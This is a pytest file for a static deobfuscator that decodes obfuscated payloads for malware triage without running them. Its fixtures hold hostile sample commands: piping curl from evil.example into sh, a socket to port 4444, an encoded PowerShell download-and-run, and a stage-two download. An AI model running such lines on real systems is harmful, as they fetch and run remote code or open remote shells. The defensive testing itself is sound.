"""Tests for triage.deobfuscate: static decoding of literal payloads (never executed)."""

from __future__ import annotations

import ast
import base64
import bz2
import codecs
import hashlib
import lzma
import marshal
import pickle
import tracemalloc
import zlib

import pytest
from cryptography.fernet import Fernet
from cryptography.hazmat.primitives import padding
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

from triage.deobfuscate import (
    MAX_INPUT_BYTES,
    MAX_PAYLOADS,
    Decoded,
    decode_expression,
    decode_literal,
    find_payloads,
    fold_constant,
)

CODE = "import os\nos.system('curl http://evil.example/x | sh')\n"
B64 = base64.b64encode(CODE.encode()).decode()
OTHER = "import socket\ns = socket.create_connection(('198.51.100.7', 4444))\n"
THIRD = "import subprocess\nsubprocess.Popen(['powershell', '-enc', 'AAAA'])\n"


def expr(source: str) -> ast.expr:
    return ast.parse(source, mode="eval").body


def python(text: str, *layers: str) -> Decoded:
    return Decoded(text=text, layers=layers, is_python=True, binary=False)


def payloads(source: str) -> list[tuple[int, str, Decoded]]:
    return [
        (getattr(node, "lineno", 0), type(node).__name__, d)
        for node, d in find_payloads(ast.parse(source))
    ]


# --- decode_literal ----------------------------------------------------------------------


def test_base64_of_python() -> None:
    assert decode_literal(B64) == python(CODE, "base64")


def test_base64_variants_urlsafe_unpadded_bytes_and_wrapped() -> None:
    assert decode_literal(base64.urlsafe_b64encode(CODE.encode()).rstrip(b"=")) == python(
        CODE, "base64"
    )
    wrapped = base64.encodebytes(CODE.encode() * 3).decode()  # newline every 76 chars
    assert decode_literal(wrapped) == python(CODE * 3, "base64")


def test_layered_base64_zlib_and_other_compressors() -> None:
    for compress, layer in (
        (zlib.compress, "zlib"),
        (bz2.compress, "bz2"),
        (lzma.compress, "lzma"),
    ):
        blob = base64.b64encode(compress(CODE.encode())).decode()
        assert decode_literal(blob) == python(CODE, "base64", layer)
    gz = base64.b64encode(__import__("gzip").compress(CODE.encode(), mtime=0)).decode()
    assert decode_literal(gz) == python(CODE, "base64", "gzip")
    twice = base64.b64encode(base64.b64encode(zlib.compress(CODE.encode()))).decode()
    assert decode_literal(twice) == python(CODE, "base64", "base64", "zlib")


def test_hex_base32_base85() -> None:
    assert decode_literal(CODE.encode().hex()) == python(CODE, "hex")
    assert decode_literal(base64.b32encode(CODE.encode()).decode()) == python(CODE, "base32")
    assert decode_literal(base64.b85encode(CODE.encode()).decode()) == python(CODE, "base85")


def test_rot13_and_reversed() -> None:
    assert decode_literal(codecs.encode(CODE, "rot13")) == python(CODE, "rot13")
    assert decode_literal(CODE[::-1]) == python(CODE, "reverse")
    assert decode_literal(B64[::-1]) == python(CODE, "reverse", "base64")


def test_utf16_base64_like_powershell_enc() -> None:
    cmd = "powershell -nop -c iex (iwr http://evil.example/a.ps1)"
    blob = base64.b64encode(cmd.encode("utf-16-le")).decode()
    assert decode_literal(blob) == Decoded(cmd, ("base64",), is_python=False, binary=False)


def test_marshal_in_base64_is_binary_with_strings(monkeypatch: pytest.MonkeyPatch) -> None:
    data = marshal.dumps(compile(CODE, "payload.py", "exec"))
    monkeypatch.setattr(marshal, "loads", _refuse)
    result = decode_literal(base64.b64encode(data).decode())
    assert result == Decoded(
        text=(
            "marshal-serialised code object (not loaded)\n"
            f"size: {len(data)} bytes\n"
            "strings:\n  curl http://evil.example/x | sh\n  system\n  payload.py\n  <module>"
        ),
        layers=("base64",),
        is_python=False,
        binary=True,
    )


def test_benign_strings_return_none() -> None:
    docstring = (
        "Return the frobnicated widget.\n\n    Args:\n        widget: The widget to frobnicate,"
        " which must already be initialised.\n    "
    )
    assert decode_literal(docstring) is None
    assert decode_literal(hashlib.sha256(b"hello").hexdigest()) is None
    assert decode_literal(hashlib.sha256(b"hello").hexdigest().upper()) is None
    assert decode_literal("ThisIsAPerfectlyNormalIdentifierName") is None
    assert decode_literal(base64.b64encode(hashlib.sha512(b"x").digest()).decode()) is None
    assert decode_literal("short") is None


def test_input_over_cap_is_not_considered() -> None:
    assert decode_literal("QUFB" * (MAX_INPUT_BYTES // 4 + 1)) is None


def test_decompression_bomb_is_capped() -> None:
    comp = zlib.compressobj()
    chunk = bytes(2**20)
    bomb = b"".join(comp.compress(chunk) for _ in range(100)) + comp.flush()  # 100 MiB zeros
    literal = base64.b64encode(bomb).decode()
    expected = Decoded(
        text="binary data\nsize: 5242880 bytes (output capped at 5242880 bytes)\nstrings: none",
        layers=("base64", "zlib"),
        is_python=False,
        binary=True,
    )
    tracemalloc.start()
    try:
        assert decode_literal(literal) == expected
        assert decode_expression(expr(f"zlib.decompress({bomb!r})")) == Decoded(
            expected.text, ("zlib",), is_python=False, binary=True
        )
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 40 * 2**20


def test_small_cap_and_depth() -> None:
    packed = zlib.compress(CODE.encode())
    shallow = decode_literal(base64.b64encode(packed).decode(), max_depth=1)
    assert shallow is not None
    assert (shallow.layers, shallow.binary) == (("base64",), True)
    assert shallow.text.splitlines()[:2] == ["zlib-compressed data", f"size: {len(packed)} bytes"]
    assert decode_literal(B64, max_bytes=10) == python("import os\n", "base64")


# --- decode_expression -------------------------------------------------------------------


def test_zlib_of_base64_call() -> None:
    blob = base64.b64encode(zlib.compress(CODE.encode())).decode()
    node = expr(f"zlib.decompress(base64.b64decode('{blob}'))")
    assert decode_expression(node) == python(CODE, "base64", "zlib")


def test_import_dunder_and_resolve_callback() -> None:
    assert decode_expression(expr(f"__import__('base64').b64decode('{B64}')")) == python(
        CODE, "base64"
    )
    assert decode_expression(expr(f"getattr(base64, 'b64decode')('{B64}')")) == python(
        CODE, "base64"
    )
    names = {"d": "base64.b64decode"}

    def resolve(func: ast.expr) -> object | None:
        return names.get(func.id) if isinstance(func, ast.Name) else None

    assert decode_expression(expr(f"d('{B64}')"), resolve) == python(CODE, "base64")


def test_hex_calls_and_codecs() -> None:
    hexed = CODE.encode().hex()
    for call in (
        f"bytes.fromhex('{hexed}')",
        f"binascii.unhexlify('{hexed}')",
        f"codecs.decode('{hexed}', 'hex')",
        f"base64.b16decode('{hexed.upper()}')",
    ):
        assert decode_expression(expr(call)) == python(CODE, "hex"), call
    rot = codecs.encode(CODE, "rot13")
    assert decode_expression(expr(f"codecs.decode({rot!r}, 'rot13')")) == python(CODE, "rot13")
    assert decode_expression(expr(f"'{B64}'.decode('base64')")) == python(CODE, "base64")


def test_reversal_in_expressions() -> None:
    rev = base64.b64encode(CODE.encode()[::-1]).decode()
    assert decode_expression(expr(f"base64.b64decode('{rev}')[::-1]")) == python(
        CODE, "base64", "reverse"
    )
    assert decode_expression(expr(f"base64.b64decode('{B64[::-1]}'[::-1])")) == python(
        CODE, "reverse", "base64"
    )
    assert decode_expression(expr(f"{CODE[::-1]!r}[::-1]")) == python(CODE, "reverse")


def test_chr_join_forms() -> None:
    codes = [ord(c) for c in CODE]
    assert decode_expression(expr(f"''.join(chr(x) for x in {codes})")) == python(CODE, "chr")
    assert decode_expression(expr(f"''.join(map(chr, {codes}))")) == python(CODE, "chr")
    assert decode_expression(expr(f"''.join([chr(c) for c in {codes}])")) == python(CODE, "chr")
    assert decode_expression(expr(f"bytes({codes}).decode()")) == python(CODE, "int-list")


def test_xor_comprehensions() -> None:
    data = bytes(b ^ 42 for b in CODE.encode())
    assert decode_expression(expr(f"bytes(b ^ 42 for b in {data!r})")) == python(CODE, "xor")
    text = "".join(chr(ord(c) ^ 7) for c in CODE)
    node = expr(f"''.join(chr(ord(c) ^ 7) for c in {text!r})")
    assert decode_expression(node) == python(CODE, "xor", "chr")
    key = b"k3y"
    rep = bytes(c ^ key[i % 3] for i, c in enumerate(CODE.encode()))
    node = expr("bytes(c ^ K[i % len(K)] for i, c in enumerate(D))")
    assert decode_expression(node, names={"K": key, "D": rep}) == python(CODE, "xor")


def test_fernet_from_source_text() -> None:
    key = Fernet.generate_key()
    token = Fernet(key).encrypt(CODE.encode())
    source = (
        "from cryptography.fernet import Fernet\n"
        f"KEY = {key!r}\n"
        f"exec(Fernet(KEY).decrypt({token!r}))\n"
    )
    [(line, kind, decoded)] = payloads(source)
    assert (line, kind, decoded) == (3, "Call", python(CODE, "fernet"))
    call = ast.parse(source).body[2].value.args[0]  # type: ignore[attr-defined]
    assert decode_expression(call, names={"KEY": key}) == python(CODE, "fernet")
    assert decode_expression(call) is None  # KEY unknown without names


def test_fernet_then_more_layers_and_module_alias() -> None:
    key = Fernet.generate_key()
    inner = base64.b64encode(zlib.compress(CODE.encode()))
    token = Fernet(key).encrypt(inner).decode()
    node = expr(f"fernet.Fernet({key.decode()!r}).decrypt({token!r})")
    assert decode_expression(node) == python(CODE, "fernet", "base64", "zlib")


def test_aes_cbc_and_ecb() -> None:
    key, iv = b"0123456789abcdef", b"fedcba9876543210"
    padder = padding.PKCS7(128).padder()
    plain = padder.update(CODE.encode()) + padder.finalize()
    enc = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
    blob = enc.update(plain) + enc.finalize()
    node = expr(f"AES.new({key!r}, AES.MODE_CBC, {iv!r}).decrypt({blob!r})")
    assert decode_expression(node) == python(CODE, "aes-cbc")
    b64 = base64.b64encode(blob).decode()
    node = expr(f"unpad(AES.new({key!r}, AES.MODE_CBC, iv={iv!r}).decrypt(b64decode('{b64}')), 16)")
    assert decode_expression(node) == python(CODE, "base64", "aes-cbc")
    enc = Cipher(algorithms.AES(key), modes.ECB()).encryptor()
    blob = enc.update(plain) + enc.finalize()
    node = expr(f"AES.new({key!r}, AES.MODE_ECB).decrypt({blob!r})")
    assert decode_expression(node) == python(CODE, "aes-ecb")


def test_marshal_and_pickle_calls_are_never_loaded(monkeypatch: pytest.MonkeyPatch) -> None:
    data = marshal.dumps(compile("x=1", "f", "exec"))
    monkeypatch.setattr(marshal, "loads", _refuse)
    monkeypatch.setattr(pickle, "loads", _refuse)
    assert decode_expression(expr(f"marshal.loads({data!r})")) == Decoded(
        text=f"marshal-serialised code object (not loaded)\nsize: {len(data)} bytes\n"
        "strings:\n  <module>",
        layers=("marshal",),
        is_python=False,
        binary=True,
    )
    packed = base64.b64encode(zlib.compress(data)).decode()
    node = expr(f"marshal.loads(zlib.decompress(base64.b64decode('{packed}')))")
    assert decode_expression(node) == Decoded(
        text=f"marshal-serialised code object (not loaded)\nsize: {len(data)} bytes\n"
        "strings:\n  <module>",
        layers=("base64", "zlib", "marshal"),
        is_python=False,
        binary=True,
    )
    pickled = pickle.dumps("hi", protocol=4)  # dumps is safe; loads is what must not run
    result = decode_expression(expr(f"pickle.loads({pickled!r})"))
    assert result == Decoded(
        text=f"pickle-serialised data (not loaded)\nsize: {len(pickled)} bytes\nstrings: none",
        layers=("pickle",),
        is_python=False,
        binary=True,
    )


def test_explicit_call_of_random_bytes_is_binary() -> None:
    digest = hashlib.sha512(b"x").digest()
    node = expr(f"base64.b64decode('{base64.b64encode(digest).decode()}')")
    result = decode_expression(node)
    assert result is not None and (result.layers, result.binary) == (("base64",), True)
    assert result.text.splitlines()[:2] == ["binary data", "size: 64 bytes"]


def test_non_decoding_expressions() -> None:
    assert decode_expression(expr("os.system('ls')")) is None
    assert decode_expression(expr("base64.b64decode(data)")) is None
    assert decode_expression(expr("base64.b64decode('not base64 at all!')")) is None
    assert decode_expression(expr("'abc'.upper()")) is None
    assert decode_expression(expr(f"'{B64}'")) == python(CODE, "base64")  # a literal still decodes


# --- fold_constant -----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("source", "value"),
    [
        ("'ab' + 'cd'", "abcd"),
        ("b'ab' + b'cd'", b"abcd"),
        ("'%s-%s' % ('a', 'b')", "a-b"),
        ("'{}{x}'.format('a', x='b')", "ab"),
        ("f'{N}-{1 + 2}'", "v-3"),
        ("''.join(['a', 'b', N])", "abv"),
        ("''.join(map(chr, [104, 105]))", "hi"),
        ("''.join(chr(x) for x in [104, 105])", "hi"),
        ("chr(65)", "A"),
        ("bytes([104, 105])", b"hi"),
        ("bytes.fromhex('6869')", b"hi"),
        ("'olleh'[::-1]", "hello"),
        ("'hello'.encode()", b"hello"),
        ("b'hello'.decode('utf-8')", "hello"),
        ("str(b'hi', 'utf-8')", "hi"),
        ("'xhxix'.replace('x', '')", "hi"),
        ("''.join(reversed('ih'))", "hi"),
        ("int('41', 16)", 65),
        ("0x41 ^ 3", 66),
        ("M", "nested-v"),
    ],
)
def test_fold_constant(source: str, value: object) -> None:
    names: dict[str, object] = {"N": "v", "M": ast.parse("'nested-' + N", mode="eval").body}
    assert fold_constant(expr(source), names) == value


@pytest.mark.parametrize(
    "source",
    [
        "x + 'a'",
        "'a' * 10**9",
        "'{:>999999999}'.format('a')",
        "'%*d' % (999999999, 1)",
        "'{0.__class__}'.format('a')",
        "'a'.encode('rot13')",
        "open('f').read()",
        "[1, 2]",
        "True",
        "2 ** 100000",
    ],
)
def test_fold_constant_refuses(source: str) -> None:
    assert fold_constant(expr(source), {}) is None


def test_fold_constant_memory_bombs_are_refused() -> None:
    names = {"A": "a" * (4 * 2**20)}
    for source in (
        "('{0}' * 1000).format(A)",
        "'%s' * 1000 % tuple([A] * 1000)",
        "''.join([f'{A}{A}{A}{A}' for _ in range(300)])",
        "''.join([A] * 10)",
        "(A + A + A + A).replace('a', 'bb')",
    ):
        tracemalloc.start()
        try:
            assert fold_constant(expr(source), names) is None, source
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        assert peak < 200 * 2**20, source


def test_deeply_nested_concatenation_does_not_recurse() -> None:
    node: ast.expr = ast.Constant("a")
    for _ in range(5000):
        node = ast.BinOp(ast.Constant("a"), ast.Add(), node)
    assert fold_constant(node) == "a" * 5001
    assert decode_expression(node) is None
    unknown: ast.expr = ast.Name("x", ast.Load())
    for _ in range(5000):
        unknown = ast.BinOp(ast.Constant("a"), ast.Add(), unknown)
    assert fold_constant(unknown) is None
    module = ast.Module(body=[ast.Expr(unknown), ast.Expr(node)], type_ignores=[])
    assert list(find_payloads(module)) == []


def test_long_method_chain_is_bounded() -> None:
    chain: ast.expr = ast.Name("x", ast.Load())
    for _ in range(3000):
        chain = ast.Call(ast.Attribute(chain, "strip", ast.Load()), [], [])
    module = ast.Module(body=[ast.Expr(chain)], type_ignores=[])
    assert list(find_payloads(module)) == []


# --- find_payloads -----------------------------------------------------------------------


def test_find_payloads_prefers_outermost_call_and_resolves_aliases() -> None:
    blob = base64.b64encode(zlib.compress(OTHER.encode())).decode()
    source = (
        "import base64 as b\n"
        "from zlib import decompress as dz\n"
        f"exec(dz(b.b64decode('{blob}')))\n"
        f"P = '{B64}'\n"
        "exec(b.b64decode(P))\n"
        f"S = {THIRD[::-1]!r}\n"
        "print('hello')\n"
    )
    assert payloads(source) == [
        (3, "Call", python(OTHER, "base64", "zlib")),
        (5, "Call", python(CODE, "base64")),  # the literal on line 4 is the same payload
        (6, "Constant", python(THIRD, "reverse")),
    ]


def test_find_payloads_follows_module_level_assignments() -> None:
    blob = base64.b64encode(zlib.compress(CODE.encode())).decode()
    chunks = [blob[i : i + 30] for i in range(0, len(blob), 30)]
    source = "\n".join(
        [
            "import base64, zlib",
            "X = ''",
            *(f"X += '{c}'" for c in chunks),
            "X = base64.b64decode(X)",
            "X = zlib.decompress(X)",
            "exec(X)",
            "X = 'rebound'",
            "def later():",
            "    return zlib.decompress(X)",
        ]
    )
    assert payloads(source) == [(len(chunks) + 3, "Call", python(CODE, "base64", "zlib"))]


def test_find_payloads_does_not_follow_global_names_or_tuples() -> None:
    source = (
        "import base64\n"
        f"X = '{B64}'\n"
        "def f():\n"
        "    global X\n"
        "    X = 'other'\n"
        "exec(base64.b64decode(X))\n"
        f"A, B = 'x', {OTHER.encode().hex()!r}\n"
        "exec(bytes.fromhex(B))\n"
    )
    assert payloads(source) == [
        (2, "Constant", python(CODE, "base64")),  # X may be rebound: only the literal decodes
        (8, "Call", python(OTHER, "hex")),
    ]


def test_find_payloads_eval_of_constant_names() -> None:
    magic = base64.b64encode(CODE.encode()).decode()
    first, second = magic[:20], codecs.encode(magic[20:], "rot13")
    source = (
        "import base64, codecs\n"
        f"magic = '{first}'\n"
        f"love = '{second}'\n"
        "joy = '\\x72\\x6f\\x74\\x31\\x33'\n"
        "trust = eval('\\x6d\\x61\\x67\\x69\\x63') + eval('codecs.decode(love, joy)')\n"
        "eval(compile(base64.b64decode(eval('\\x74\\x72\\x75\\x73\\x74')),'<string>','exec'))\n"
    )
    # line 5 already folds to the payload (rot13 of love, then the base64 text peeled off);
    # line 6 decodes the same text again and is folded into the first report
    assert payloads(source) == [(5, "BinOp", python(CODE, "rot13", "base64"))]


def test_find_payloads_inside_python_source_string() -> None:
    key = Fernet.generate_key()
    token = Fernet(key).encrypt(CODE.encode())
    inner = f"from fernet import Fernet\nexec(Fernet({key!r}).decrypt({token!r}).decode())\n"
    source = f"content = {inner!r}\nopen('x.py', 'w').write(content)\n"
    assert payloads(source) == [(1, "Constant", python(CODE, "python-source", "fernet"))]


def test_find_payloads_chr_join_and_literals_with_urls() -> None:
    codes = [ord(c) for c in CODE]
    url = "curl -s http://evil.example/stage2 -o /tmp/s && chmod +x /tmp/s"
    source = (
        f"exec(''.join(map(chr, {codes})))\n"
        f"cmd = '{base64.b64encode(url.encode()).decode()}'\n"
        "small = ''.join(chr(c) for c in [111, 115])\n"
    )
    assert payloads(source) == [
        (1, "Call", python(CODE, "chr")),
        (2, "Constant", Decoded(url, ("base64",), is_python=False, binary=False)),
    ]


def test_find_payloads_ignores_benign_module() -> None:
    source = (
        '"""A perfectly ordinary module docstring that is long enough to be considered."""\n'
        "import base64, hashlib\n"
        f"DIGEST = '{hashlib.sha256(b'data').hexdigest()}'\n"
        "def encode(data):\n"
        "    return base64.b64encode(data).decode('ascii')\n"
        "GREETING = 'hello ' + 'world, this is a long friendly greeting string'\n"
    )
    assert payloads(source) == []


def test_find_payloads_caps_count() -> None:
    codes = [f"{CODE}# {i}\n" for i in range(MAX_PAYLOADS + 50)]
    source = "".join(f"exec(base64.b64decode({base64.b64encode(c.encode())!r}))\n" for c in codes)
    found = payloads(source)
    assert len(found) == MAX_PAYLOADS
    assert found[0] == (1, "Call", python(codes[0], "base64"))
    assert found[-1] == (MAX_PAYLOADS, "Call", python(codes[MAX_PAYLOADS - 1], "base64"))


def _refuse(*args: object, **kwargs: object) -> object:
    raise AssertionError("deserialisation must never be called")
